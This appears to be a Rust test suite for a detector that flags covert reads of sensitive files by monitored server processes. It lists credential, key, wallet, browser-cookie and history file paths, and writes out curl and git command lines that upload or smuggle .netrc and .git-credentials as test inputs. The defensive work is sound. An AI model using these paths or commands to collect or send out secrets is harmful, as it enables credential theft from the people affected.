use super::*;
use crate::detect::landmarks::Landmarks;
use crate::detect::tests::{Scene, change, change_of_two, failed_open, link, open};
use crate::record::Container;
use Relation::{Background, Covert, Requested, Startup};

fn read(path: &str) -> Open {
    open(path, libc::O_RDONLY)
}

fn fires(scene: &mut Scene, open: &Open) -> bool {
    match scene.found(Action::Open(open)).as_slice() {
        [] => false,
        [(rule, _)] => {
            assert_eq!(*rule, "sensitive_file_read");
            true
        }
        more => panic!("{more:?}"),
    }
}

/// Sensitive wherever the home is.
const BELOW_A_HOME: &[&str] = &[
    ".ssh/id_rsa",
    ".ssh/work_key",
    ".ssh/keys/deploy",
    ".aws/credentials",
    ".aws/sso/cache/0123.json",
    ".config/gcloud/application_default_credentials.json",
    ".config/gcloud/legacy_credentials/a@b.c/adc.json",
    ".azure/msal_token_cache.json",
    ".kube/config",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
    ".config/gh/hosts.yml",
    ".npmrc",
    ".pypirc",
    ".cargo/credentials.toml",
    ".cache/huggingface/token",
    ".claude/.credentials.json",
    ".codex/auth.json",
    ".mcp-auth/mcp-remote-0.1.0/abc_tokens.json",
    ".pgpass",
    ".gnupg/private-keys-v1.d/0A.key",
    ".password-store/mail/work.gpg",
    ".local/share/keyrings/login.keyring",
    ".mozilla/firefox/x.default/logins.json",
    "snap/firefox/common/.mozilla/firefox/x.default/key4.db",
    ".config/google-chrome/Default/Login Data",
    ".config/chromium/Profile 1/Network/Cookies",
    ".config/BraveSoftware/Brave-Browser/Default/Cookies",
    ".bitcoin/wallet.dat",
    ".ethereum/keystore/UTC--2026",
    ".config/solana/id.json",
    ".bash_history",
    ".zsh_history",
    ".python_history",
    ".local/share/fish/fish_history",
    "Documents/passwords.kdbx",
];

const HOMES: &[&str] =
    &["/root", "/home/a", "/Users/b", "/var/home/c", "/tmp/pytest-1/home0", "/var/lib/app", ""];

#[test]
fn files_below_any_home_fire() {
    for home in HOMES {
        for file in BELOW_A_HOME {
            let path = format!("{home}/{file}");
            assert!(fires(&mut Scene::new(Covert), &read(&path)), "{path}");
        }
    }
}

#[test]
fn files_of_the_system_fire() {
    for path in [
        "/etc/shadow",
        "/etc/gshadow-",
        "/etc/ssh/ssh_host_ed25519_key",
        "/etc/ssl/private/server.key",
        "/etc/letsencrypt/archive/example.com/privkey1.pem",
        "/etc/kubernetes/admin.conf",
        "/run/secrets/kubernetes.io/serviceaccount/token",
        "/run/secrets/kubernetes.io/serviceaccount/..2026_11_20/token",
        "/run/secrets/db_password",
        "/tmp/krb5cc_1000",
        "/proc/1/environ",
        "/proc/77/task/78/environ",
        "/proc/1/mem",
        "/srv/app/.env",
        "/srv/app/.env.production",
        "/backup/old/id_rsa",
    ] {
        assert!(fires(&mut Scene::new(Covert), &read(path)), "{path}");
    }
}

#[test]
fn ordinary_files_are_silent() {
    for path in [
        "/etc/passwd",
        "/etc/group",
        "/etc/hosts",
        "/etc/nsswitch.conf",
        "/etc/resolv.conf",
        "/etc/ld.so.cache",
        "/etc/localtime",
        "/etc/ssl/certs/ca-certificates.crt",
        "/etc/ssl/openssl.cnf",
        "/usr/lib/python3/dist-packages/certifi/cacert.pem",
        "/usr/lib/locale/C.utf8/LC_CTYPE",
        "/usr/share/zoneinfo/UTC",
        "/srv/app/node_modules/x/package.json",
        "/srv/app/node_modules/dotenv/lib/env.js",
        "/srv/app/.env.example",
        "/srv/app/.envoy",
        "/srv/app/environ",
        "/home/a/.ssh/id_rsa.pub",
        "/home/a/.ssh/known_hosts",
        "/home/a/.ssh/config",
        "/home/a/.ssh/authorized_keys",
        "/etc/ssh/ssh_host_rsa_key.pub",
        "/home/a/.gitconfig",
        "/home/a/.config/git/config",
        "/home/a/.aws/config",
        "/home/a/.config/gh/config.yml",
        "/home/a/.cache/uv/archive/x",
        "/home/a/.npm/_cacache/index-v5/00",
        "/home/a/project/.git/config",
        "/home/a/project/.git/index",
        "/proc/self/status",
        "/proc/1/stat",
        "/proc/meminfo",
        "/proc/sys/kernel/osrelease",
        "/sys/fs/cgroup/memory.max",
        "/dev/null",
        "/dev/urandom",
        "",
        "/",
        "relative/.ssh",
    ] {
        for relation in [Requested, Covert, Background, Startup] {
            assert!(!fires(&mut Scene::new(relation), &read(path)), "{path}");
        }
    }
}

#[test]
fn severity_is_by_relation_and_result() {
    let path = "/home/a/.ssh/id_rsa";
    let table = [
        (Requested, read(path), Severity::High),
        (Covert, read(path), Severity::Critical),
        (Background, read(path), Severity::Critical),
        (Startup, read(path), Severity::Critical),
        (Covert, open(path, libc::O_RDWR), Severity::Critical),
        (Covert, failed_open(path, libc::O_RDONLY, libc::EACCES), Severity::Medium),
        (Covert, failed_open(path, libc::O_RDONLY, libc::EPERM), Severity::Medium),
        (Covert, failed_open(path, libc::O_RDONLY, libc::ENOENT), Severity::Low),
        (Requested, failed_open(path, libc::O_RDONLY, libc::ENOTDIR), Severity::Low),
    ];
    for (relation, open, severity) in table {
        let found = Scene::new(relation).found(Action::Open(&open));
        assert_eq!(found, [("sensitive_file_read", severity)], "{relation:?} {open:?}");
    }
}

#[test]
fn neither_writing_nor_looking_nor_listing_is_reading() {
    let path = "/home/a/.ssh/id_rsa";
    for flags in [libc::O_WRONLY | libc::O_CREAT, libc::O_PATH, libc::O_WRONLY | libc::O_TRUNC] {
        assert!(!fires(&mut Scene::new(Covert), &open(path, flags)));
    }
    let mut folder = read("/home/a/.ssh/keys");
    folder.mode = libc::S_IFDIR | 0o700;
    assert!(!fires(&mut Scene::new(Covert), &folder));
    let tried = failed_open("/home/a/.ssh/keys", libc::O_DIRECTORY, libc::EACCES);
    assert!(!fires(&mut Scene::new(Covert), &tried));
}

#[test]
fn links_and_odd_arguments_hide_nothing() {
    for open in [
        link("/tmp/harmless.txt", "/home/a/.ssh/id_rsa"),
        link("/srv/files/../../home/a/.ssh/id_rsa", "/home/a/.ssh/id_rsa"),
        link("/proc/self/root/home/a/.ssh/id_rsa", "/home/a/.ssh/id_rsa"),
        link("id_rsa", "/home/a/.ssh/id_rsa"),
        link("/home/a/.aws/credentials", "/mnt/dotfiles/aws"),
        failed_open("/home/a/./x/..//.ssh/id_rsa", libc::O_RDONLY, libc::EACCES),
    ] {
        assert!(fires(&mut Scene::new(Covert), &open), "{open:?}");
    }
}

#[test]
fn given_folders_explain_only_what_is_meant() {
    let table: &[(&str, &str, Relation, bool)] = &[
        ("/home/a/.ssh", "/home/a/.ssh/id_rsa", Covert, false),
        ("/home/a/.ssh/", "/home/a/.ssh/id_rsa", Covert, false),
        ("/home/a/.ssh/id_rsa", "/home/a/.ssh/id_rsa", Covert, false),
        ("/home/a/.ssh/id_ed25519", "/home/a/.ssh/id_rsa", Covert, true),
        ("/home/a", "/home/a/.ssh/id_rsa", Requested, true),
        ("/", "/home/a/.ssh/id_rsa", Requested, true),
        ("/home", "/home/a/.ssh/id_rsa", Requested, true),
        ("/home/a/.mozilla/firefox", "/home/a/.mozilla/firefox/x/key4.db", Covert, false),
        ("/home/a/.mozilla", "/home/a/.mozilla/firefox/x/key4.db", Covert, true),
        ("/etc", "/etc/shadow", Covert, false),
        ("/srv/app", "/srv/app/.env", Requested, false),
        ("/srv/app", "/srv/app/deep/.env", Requested, false),
        ("/srv/app", "/srv/app/.env", Covert, true),
        ("/srv/app", "/srv/app/.env", Background, true),
        ("/srv/app/.env", "/srv/app/.env", Covert, false),
        ("/home/a", "/home/a/project/.env", Requested, true),
        ("/srv/other", "/srv/app/.env", Requested, true),
    ];
    for (given, path, relation, expected) in table {
        let mut scene = Scene::new(*relation);
        scene.given.paths = vec![(*given).into()];
        assert_eq!(fires(&mut scene, &read(path)), *expected, "{given} {path} {relation:?}");
    }
}

#[test]
fn a_server_reads_its_own_environment_file_when_it_starts() {
    let mut scene = Scene::new(Startup);
    scene.given.folders = vec!["/srv/app/server".into()];
    scene.given.argv = ["node", "/opt/tool/dist/index.js"].map(Into::into).into();
    for own in ["/srv/app/server/.env", "/srv/app/.env", "/opt/tool/.env"] {
        assert!(!fires(&mut scene, &read(own)), "{own}");
    }
    for other in ["/srv/other/.env", "/home/a/.env"] {
        assert!(fires(&mut scene, &read(other)), "{other}");
    }
    // What it starts, it starts where it likes.
    scene.process.cwd = Some("/srv/other".into());
    assert!(fires(&mut scene, &read("/srv/other/.env")));
    scene.given.folders = vec!["/home/a/project".into()];
    assert!(fires(&mut scene, &read("/home/a/.env")));
    scene.attribution.relation = Covert;
    assert!(fires(&mut scene, &read("/home/a/project/.env")));
}

#[test]
fn settings_allow_reads_with_globs_and_homes() {
    let mut scene = Scene::new(Covert);
    scene.given.allow.read = vec!["~/.aws/*".into(), "/etc/ssl/private/**".into()];
    assert!(!fires(&mut scene, &read("/tmp/h/.aws/credentials")));
    assert!(!fires(&mut scene, &read("/etc/ssl/private/a.key")));
    assert!(fires(&mut scene, &read("/tmp/h/.ssh/id_rsa")));
    assert!(!fires(&mut scene, &link("/tmp/h/.aws/credentials", "/mnt/aws")));
    assert!(fires(&mut scene, &link("/tmp/h/.aws/x", "/tmp/h/.ssh/id_rsa")));
}

#[test]
fn the_program_a_file_is_made_for_may_read_it_when_it_is_the_systems() {
    let table = [
        ("/usr/bin/ssh", "/home/a/.ssh/id_rsa", false),
        ("/nix/store/abc-openssh/bin/ssh", "/home/a/.ssh/id_rsa", false),
        ("/tmp/ssh", "/home/a/.ssh/id_rsa", true),
        ("/home/a/bin/ssh", "/home/a/.ssh/id_rsa", true),
        ("/usr/bin/cat", "/home/a/.ssh/id_rsa", true),
        ("/usr/bin/scp", "/home/a/.ssh/id_rsa", true),
        ("/usr/bin/ssh", "/home/a/.aws/credentials", true),
        ("/usr/lib/git-core/git-credential-store", "/home/a/.git-credentials", false),
        ("/usr/lib/git-core/git-remote-http", "/home/a/.netrc", false),
        ("/usr/bin/git", "/home/a/.netrc", true),
        ("/usr/bin/git", "/home/a/.cargo/credentials.toml", true),
        ("/usr/bin/curl", "/home/a/.netrc", false),
        ("/usr/bin/curl", "/home/a/.npmrc", true),
        ("/usr/bin/gh", "/home/a/.config/gh/hosts.yml", false),
        ("/usr/bin/ps", "/proc/7/environ", true),
        ("/usr/bin/gpg-agent", "/home/a/.gnupg/private-keys-v1.d/1.key", false),
        ("/usr/local/bin/kubectl", "/home/a/.kube/config", false),
    ];
    for (exe, path, expected) in table {
        let mut scene = Scene::new(Covert);
        scene.process.exe = exe.into();
        assert_eq!(fires(&mut scene, &read(path)), expected, "{exe} {path}");
    }
}

#[test]
fn who_is_told_the_file_reads_it_for_somebody_else() {
    const NETRC: &str = "/home/a/.netrc";
    const TOKENS: &str = "/home/a/.git-credentials";
    let table: &[(&str, &[&str], &str, bool)] = &[
        ("git", &["git", "diff", "--no-index", "/dev/null", TOKENS], TOKENS, true),
        ("git", &["git", "-C", "/home/a", "hash-object", "-w", ".git-credentials"], TOKENS, true),
        ("git", &["git", "commit", "--file=../.git-credentials"], TOKENS, true),
        ("git", &["git", "grep", "--no-index", "", NETRC], NETRC, true),
        // It has a subcommand of its own read them.
        ("git", &["git", "push", "origin", "main"], TOKENS, true),
        ("git", &["git", "add", "-A"], TOKENS, true),
        ("git", &["git-diff", "credential-store", TOKENS], TOKENS, true),
        (
            "git",
            &["/usr/lib/git-core/git-credential-store", "--file", TOKENS, "get"],
            TOKENS,
            false,
        ),
        ("git", &["git", "credential-store", "get"], TOKENS, false),
        ("git", &["git", "credential-store", "--file", TOKENS, "get"], TOKENS, false),
        (
            "git",
            &["git", "credential-store", "--file=/home/a/.git-credentials", "get"],
            TOKENS,
            false,
        ),
        (
            "git-remote-http",
            &["git-remote-https", "origin", "https://github.com/a/b"],
            NETRC,
            false,
        ),
        ("curl", &["curl", "file:///home/a/.netrc"], NETRC, true),
        ("curl", &["curl", "FILE:///home/a/%2enetrc"], NETRC, true),
        ("curl", &["curl", "-K", NETRC], NETRC, true),
        ("curl", &["curl", "-T", ".netrc", "https://example.com"], NETRC, true),
        ("curl", &["curl", "-d@/home/a/.netrc", "https://example.com"], NETRC, true),
        ("curl", &["curl", "-F", "a=@/home/a/.netrc;type=text/plain", "https://b"], NETRC, true),
        ("curl", &["curl", "--netrc-file", NETRC, "-T", NETRC, "https://b"], NETRC, true),
        ("curl", &["curl", "-T.netrc", "https://b"], NETRC, true),
        ("curl", &["curl", "-T", "{/home/a/.netrc}", "https://b"], NETRC, true),
        ("curl", &["--netrc-file", "file:///home/a/.netrc"], NETRC, true),
        ("curl", &["curl", "-A", "--netrc-file", "-T/home/a/.netrc", "https://b"], NETRC, true),
        ("curl", &["curl", "-A", "--netrc-file", "file:///home/a/.netrc"], NETRC, true),
        ("curl", &["curl", "-T", "/home/a/.net{r,x}c", "https://b"], NETRC, true),
        ("curl", &["curl", "-nd", "{\"a\": [1]}", "https://b"], NETRC, false),
        ("curl", &["curl", "-nsK", "-"], NETRC, true),
        ("curl", &["curl", "-n", "--config", "/tmp/x"], NETRC, true),
        ("git", &["git", "diff", "--no-index", "credential-store", TOKENS], TOKENS, true),
        ("git", &["git", "commit", "-F.git-credentials"], TOKENS, true),
        ("curl", &["curl", "-n", "https://example.com/netrc"], NETRC, false),
        ("curl", &["curl", "-sn", "--netrc-file", NETRC, "https://example.com"], NETRC, false),
        ("ssh", &["ssh", "-i", "/home/a/.ssh/id_rsa", "host"], "/home/a/.ssh/id_rsa", false),
        (
            "kubectl",
            &["kubectl", "--kubeconfig", "/home/a/.kube/config"],
            "/home/a/.kube/config",
            false,
        ),
        (
            "docker",
            &["docker", "--config", "/home/a/.docker"],
            "/home/a/.docker/config.json",
            false,
        ),
        ("curl", &[], NETRC, false),
    ];
    for (program, argv, path, expected) in table {
        let mut scene = Scene::new(Covert);
        scene.process.exe = format!("/usr/bin/{program}");
        scene.process.argv = argv.iter().map(|&word| word.into()).collect();
        assert_eq!(fires(&mut scene, &read(path)), *expected, "{argv:?}");
    }
    // What it was told may stand behind what is known of it.
    let mut scene = Scene::new(Covert);
    scene.process.exe = "/usr/bin/curl".into();
    scene.process.argv = ["curl", "-n", "https://b"].map(Into::into).into();
    assert!(!fires(&mut scene, &read(NETRC)));
    scene.process.argv_cut = true;
    assert!(fires(&mut scene, &read(NETRC)));
    (scene.process.argv_cut, scene.process.argv_masked) = (false, true);
    assert!(fires(&mut scene, &read(NETRC)));
    // What a link elsewhere leads to is named by the link.
    let mut scene = Scene::new(Covert);
    scene.process.exe = "/usr/bin/curl".into();
    scene.process.argv = ["curl", "-T", "/tmp/x", "https://b"].map(Into::into).into();
    assert!(fires(&mut scene, &link("/tmp/x", NETRC)));
    assert!(!fires(&mut scene, &read(NETRC)));
}

#[test]
fn every_program_that_is_told_files_is_an_owner() {
    let Tables { category } = data(FILE, TEXT).unwrap();
    for category in &category {
        assert!(category.told.iter().all(|one| category.owners.contains(one)), "{}", category.name);
        assert!(category.named_by.is_empty() || !category.told.is_empty(), "{}", category.name);
    }
}

#[test]
fn a_package_the_file_is_made_for_may_read_it() {
    let tokens = read("/home/a/.mcp-auth/mcp-remote-0.1.0/abc_tokens.json");
    let mut scene = Scene::new(Startup);
    assert!(fires(&mut scene, &tokens));
    scene.given.argv = ["npx", "mcp-remote@0.1.29", "https://example.com"].map(Into::into).into();
    assert!(!fires(&mut scene, &tokens));
    assert!(fires(&mut scene, &read("/home/a/.ssh/id_rsa")));
}

#[test]
fn launchers_may_read_their_registry_tokens() {
    let mut scene = Scene::new(Startup);
    scene.launching = true;
    for path in ["/home/a/.npmrc", "/home/a/.netrc", "/home/a/.docker/config.json"] {
        assert!(!fires(&mut scene, &read(path)));
    }
    // What was fetched runs while the launcher is still there.
    for path in ["/home/a/.ssh/id_rsa", "/home/a/.aws/credentials"] {
        assert!(fires(&mut scene, &read(path)));
    }
}

#[test]
fn a_process_may_read_its_own_environment() {
    let mut scene = Scene::new(Covert);
    let pid = scene.process.pid;
    assert!(!fires(&mut scene, &link("/proc/self/environ", &format!("/proc/{pid}/environ"))));
    assert!(!fires(&mut scene, &read(&format!("/proc/{pid}/task/{pid}/environ"))));
    assert!(fires(&mut scene, &read("/proc/1/environ")));
    // Outside containers the path tells; the argument can be changed while the call runs.
    assert!(fires(&mut scene, &link("/proc/self/environ", "/proc/1/environ")));
    scene.process.container = Some(std::sync::Arc::new(Container {
        id: "c".into(),
        runtime: "docker".into(),
        name: None,
        image: None,
        pod: None,
        pod_name: None,
        namespace: None,
    }));
    assert!(!fires(&mut scene, &link("/proc/self/environ", "/proc/7/environ")));
    assert!(fires(&mut scene, &read("/proc/1/environ")));
}

#[test]
fn homes_in_containers_count_by_the_path_inside() {
    let mut scene = Scene::new(Covert);
    scene.process.container = Some(std::sync::Arc::new(Container {
        id: "c".into(),
        runtime: "docker".into(),
        name: None,
        image: None,
        pod: None,
        pod_name: None,
        namespace: None,
    }));
    for home in ["/root", "/home/node"] {
        for file in ["_netrc", ".netrc", "Monero/wallets/main/main.keys"] {
            let mut inside = read(&format!("{home}/{file}"));
            let merged = "/var/lib/docker/overlay2/1f/merged";
            inside.host_path = Some(format!("{merged}{home}/{file}"));
            assert!(fires(&mut scene, &inside), "{home}/{file}");
            // Below chroot(2) of the host.
            let mut jailed = read(&format!("/srv/jail{home}/{file}"));
            jailed.inner_path = Some(format!("{home}/{file}"));
            assert!(fires(&mut scene, &jailed), "{home}/{file}");
        }
    }
    assert!(fires(&mut scene, &read("/app/.netrc")));
    assert!(!fires(&mut scene, &read("/app/_netrc")));
}

#[test]
fn the_reason_names_all_a_person_needs() {
    let finding = Scene::new(Covert).findings(Action::Open(&read("/home/a/.ssh/id_rsa"))).remove(0);
    assert_eq!(
        finding.reason,
        "Server files read an SSH private key (/home/a/.ssh/id_rsa) during tools/call `weather` \
         (JSON-RPC id 7), whose arguments do not mention it."
    );
    assert_eq!(finding.object, "/home/a/.ssh/id_rsa");
}

#[test]
fn hostile_paths_do_no_harm() {
    let table = [
        format!("/{}/.ssh/id_rsa", "a".repeat(1 << 20)),
        format!("{}/.ssh/id_rsa", "/..".repeat(1 << 16)),
        "/home/\u{202e}a/\u{1b}[31m/.ssh/id_rsa".to_owned(),
        "/home/a\n/.ssh/id_rsa".to_owned(),
        "/home/\u{fffd}/.ssh/id_rsa".to_owned(),
    ];
    for path in table {
        let findings = Scene::new(Covert).findings(Action::Open(&read(&path)));
        assert_eq!(findings.len(), 1);
        assert!(findings[0].reason.len() < 2048);
        assert!(findings[0].evidence.iter().all(|piece| piece.value.len() < 8192));
    }
}

#[test]
fn nearly_no_ordinary_path_has_a_landmark() {
    let Tables { category } = data(FILE, TEXT).unwrap();
    let landmarks = Landmarks::of(category.iter().flat_map(|c| &c.paths).map(String::as_str));
    for path in [
        "/srv/project/node_modules/package/dist/index.js",
        "/usr/lib/python3.12/site-packages/mcp/server/__init__.py",
        "/home/a/.cache/uv/archive-v0/x/lib/y.so",
        "/proc/self/status",
        "/tmp/x",
        "/etc/ssl/certs/ca-certificates.crt",
    ] {
        assert!(!landmarks.are_in(path), "{path}");
    }
}

#[test]
fn patterns_of_the_data_keep_to_what_the_file_says() {
    let Tables { category } = data(FILE, TEXT).unwrap();
    for category in &category {
        for pattern in category.paths.iter().chain(&category.except) {
            assert!(
                pattern.starts_with('/') || pattern.starts_with("~/") || pattern.starts_with("**/")
            );
            assert!(!pattern.trim_start_matches("**/").contains("**"), "{pattern}");
        }
    }
    assert_eq!(below_own_folder("~/.ssh/id_*"), 1);
    assert_eq!(below_own_folder("~/.mozilla/firefox/*/key4.db"), 2);
    assert_eq!(below_own_folder("/etc/shadow"), 1);
    assert_eq!(below_own_folder("**/.env"), 1);
    assert_eq!(below_own_folder("/proc/*/environ"), 2);
}

#[test]
fn another_name_for_a_secret_counts_like_a_read() {
    let table = [
        change_of_two(Operation::Rename, "/home/a/.ssh/id_rsa", "/tmp/x"),
        change_of_two(Operation::Link, "/home/a/.ssh/id_rsa", "/tmp/x"),
        change_of_two(Operation::Rename, "/home/a/.ssh", "/tmp/x"),
        change_of_two(Operation::Rename, "/home/a/.config/gh", "/tmp/x"),
    ];
    for change in &table {
        let found = Scene::new(Covert).found(Action::Change(change));
        assert_eq!(found, [("sensitive_file_read", Severity::Critical)], "{change:?}");
    }
    for change in [
        change_of_two(Operation::Rename, "/tmp/x", "/home/a/.ssh/id_rsa"),
        change_of_two(Operation::Rename, "/home/a/.local", "/tmp/x"),
        change_of_two(Operation::Rename, "/home/a/notes", "/tmp/x"),
        // What is read through a link is told by the open.
        change_of_two(Operation::Symlink, "/tmp/x", "/home/a/.ssh/id_rsa"),
        change(Operation::Unlink, "/home/a/.ssh/id_rsa"),
    ] {
        assert_eq!(Scene::new(Covert).found(Action::Change(&change)), [], "{change:?}");
    }
    let mut scene = Scene::new(Covert);
    scene.given.allow.read = vec!["~/.ssh/**".into()];
    assert_eq!(scene.found(Action::Change(&table[0])), []);
}
